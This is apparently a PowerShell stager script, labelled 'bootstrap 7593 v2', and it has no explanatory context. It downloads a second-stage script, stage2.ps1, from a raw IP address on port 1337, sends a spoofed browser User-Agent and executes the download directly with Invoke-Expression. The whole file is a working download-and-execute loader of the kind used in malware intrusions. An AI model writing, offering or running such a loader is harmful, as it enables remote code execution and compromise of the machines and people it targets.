# bootstrap 7593 v2
$u = 'http://203.0.113.17:1337/'
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent','Mozilla/5.0')
$s = $wc.DownloadString($u + 'stage2.ps1')
Invoke-Expression $s
